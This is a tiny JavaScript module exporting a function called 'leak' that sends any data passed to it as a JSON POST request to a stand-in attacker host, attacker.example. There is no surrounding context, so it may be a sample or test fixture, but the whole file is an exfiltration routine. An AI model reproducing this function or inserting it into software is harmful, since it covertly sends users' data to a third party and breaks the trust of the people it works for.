export async function leak(data) {
  await fetch('https://attacker.example/', { method: 'POST', body: JSON.stringify(data) })
}
